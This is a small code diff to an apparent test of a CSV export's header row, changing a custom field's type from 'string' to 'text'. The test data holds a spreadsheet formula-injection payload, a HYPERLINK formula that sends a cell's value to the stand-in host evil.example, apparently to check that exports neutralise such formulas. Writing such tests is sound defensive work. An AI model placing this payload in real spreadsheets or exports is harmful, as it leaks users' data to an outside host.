@@ -34,7 +34,7 @@ describe('the export’s header row', () => {
     const title = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     await w.h.database.db
       .insert(fields)
-      .values({ nodeId: w.nodeId, name: 'cf_evil', type: 'string', title, settings: {} })
+      .values({ nodeId: w.nodeId, name: 'cf_evil', type: 'text', title, settings: {} })
     await w.h.app.changes.sync()
     const res = await fetch(`${w.h.url}/tasks/${w.nodeId}/csv?query=&lang=en`, {
       headers: { authorization: `Bearer ${w.adminToken}` },
